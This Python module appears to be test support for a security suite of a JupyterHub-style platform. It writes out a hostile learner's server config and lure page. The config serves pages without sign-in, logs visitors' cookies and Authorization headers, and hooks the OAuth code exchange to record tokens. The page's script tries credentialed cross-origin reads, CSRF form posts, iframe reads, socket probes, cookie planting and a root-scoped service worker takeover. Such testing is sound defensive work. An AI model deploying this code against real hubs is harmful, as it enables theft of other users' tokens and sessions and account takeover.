"""What a hostile learner's code leaves in its own server, and the page that it shows to whoever visits.

The server answers anybody without a sign-in, writes down everything that visitors' browsers send, keeps the tokens that
their sign-ins bring, and plants cookies for the whole domain. The page then tries what a script can try.
"""

import json

SERVER_CONFIG = """
import json, os, pathlib, sys, types
from jupyterhub.services import auth
from tornado.web import RequestHandler

HOME = pathlib.Path.home()

def note(**seen):
    with (HOME / "seen.jsonl").open("a") as file:
        file.write(json.dumps(seen) + "\\n")

class Anybody(RequestHandler):
    def check_xsrf_cookie(self):
        pass

    def get(self, path):
        told = {name: self.request.headers.get(name, "") for name in ("Cookie", "Referer", "Authorization")}
        note(path=path, query=self.request.query, body=self.request.body.decode(errors="replace"), **told)
        if path == "plant":
            for line in json.loads((HOME / "cookies.json").read_text()):
                self.add_header("Set-Cookie", line)
        file = HOME / "public" / path
        if path.endswith(".js"):
            self.set_header("Content-Type", "text/javascript")
            self.set_header("Service-Worker-Allowed", "/")
        self.finish(file.read_bytes() if file.is_file() else "nothing here")

    post = get

async def keep_token(self, *words, _asked=auth.HubOAuth.token_for_code, **options):
    token = await _asked(self, *words, **options)
    note(path="token", token=token)
    return token

auth.HubOAuth.token_for_code = keep_token
page = types.ModuleType("public_page")
page._jupyter_server_extension_points = lambda: [{"module": "public_page"}]
page._load_jupyter_server_extension = lambda app: app.web_app.add_handlers(
    ".*", [(os.environ["JUPYTERHUB_SERVICE_PREFIX"] + "public/(.*)", Anybody)]
)
sys.modules["public_page"] = page
c.ServerApp.jpserver_extensions = {"public_page": True}
"""

SERVICE_WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  if (event.request.mode === "navigate" && !event.request.url.includes("/public/")) {
    event.respondWith(new Response("taken over"));
  }
});
"""

PAGE = """<!doctype html><meta charset="utf-8"><title>My solution</title><h1>Have a look at my solution</h1>
<script>
const at = %s;
const found = {};
const within = (promise, milliseconds = 4000) => Promise.race([promise,
  new Promise((_, fail) => setTimeout(() => fail(new Error("nothing came")), milliseconds))]);
// Some of it may be done, and then is, however long it takes beside all the rest; what may not is refused at once.
const PATIENT = 60000;
const tried = async (name, attempt) => {
  try { found[name] = "GOT " + await attempt(); } catch (error) { found[name] = "refused: " + error.name; }
};
const framed = (url) => within(new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.src = url;
  frame.onload = () => done(frame);
  document.body.append(frame);
}));
const posted = (name, action, fields, enctype) => within(new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.name = name;
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, { method: "POST", action, enctype, target: name });
  for (const [key, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, { type: "hidden", name: key, value });
    form.append(input);
  }
  document.body.append(form);
  frame.onload = () => done();
  form.submit();
})).catch(() => {});

const read = () => Promise.all(at.read.map((url) => tried("read " + url, async () => {
  const answer = await within(fetch(url, { credentials: "include" }), PATIENT);
  return answer.status + " " + (await answer.text()).slice(0, 200);
})));

const embed = () => Promise.all(at.read.map(async (url) => {
  // A script that loads runs here; an image's size, a style's rules and a document's size would tell something.
  await tried("script " + url, () => within(new Promise((done, fail) => {
    const script = document.createElement("script");
    Object.assign(script, { src: url, onload: () => done("ran"), onerror: () => fail(new Error("refused")) });
    document.head.append(script);
  }), PATIENT));
  await within(new Promise((done) => {
    const image = new Image();
    image.onload = image.onerror = done;
    image.src = url;
  })).catch(() => {});
}));

const write = () => Promise.all(at.write.map(async ({ method, url, body, fields }, number) => {
  const text = JSON.stringify(body);
  const headers = { "Content-Type": "application/json", "X-XSRFToken": at.xsrf[0] };
  await tried(`write ${method} ${url}`, async () =>
    (await within(fetch(url, { method, body: text, credentials: "include", headers }))).status);
  for (const xsrf of ["", ...at.xsrf]) {
    const address = url + (xsrf ? `?_xsrf=${xsrf}` : "");
    if (method === "POST") {
      // What a page may send anywhere without asking: no word of the answer comes back, only the deed would be done.
      await within(fetch(address, { method, mode: "no-cors", credentials: "include", body: text })).catch(() => {});
      await posted(`plain-${number}-${xsrf.length}`, address, { ['{"x":"']: '"}' }, "text/plain");
    }
    for (const [index, one] of (fields || []).entries()) {
      await posted(`form-${number}-${index}-${xsrf.length}`, address, { ...one, _xsrf: xsrf },
        "application/x-www-form-urlencoded");
    }
  }
}));

const frames = () => Promise.all(at.frames.map((url) => tried("frame " + url, async () =>
  (await framed(url)).contentDocument.body.innerText.slice(0, 200))));

const streams = async () => {
  for (const url of at.streams) {
    await tried("stream " + url, () => within(new Promise((done, fail) => {
      const stream = new EventSource(url, { withCredentials: true });
      stream.onmessage = stream.onopen = () => done("open");
      stream.addEventListener("state", () => done("state"));
      stream.onerror = () => fail(new Error("refused"));
    })));
  }
  for (const url of at.sockets) {
    await tried("socket " + url, () => within(new Promise((done, fail) => {
      const socket = new WebSocket(url);
      socket.onopen = () => done("open");
      socket.onerror = socket.onclose = () => fail(new Error("refused"));
    })));
  }
};

const worker = () => tried("service worker", async () => {
  const kept = await within(navigator.serviceWorker.register("worker.js", { scope: "/" }), PATIENT);
  await within(navigator.serviceWorker.ready, PATIENT);
  return kept.scope;
});

const plant = () => {
  for (const line of at.cookies) document.cookie = line;
};

(async () => {
  plant();
  await Promise.all([read(), embed(), frames(), streams(), worker()]);
  await write();
  window.found = found;
})();
</script>
"""


def page(**targets):
    """Return the page that tries everything at these places."""
    return PAGE % json.dumps(targets)
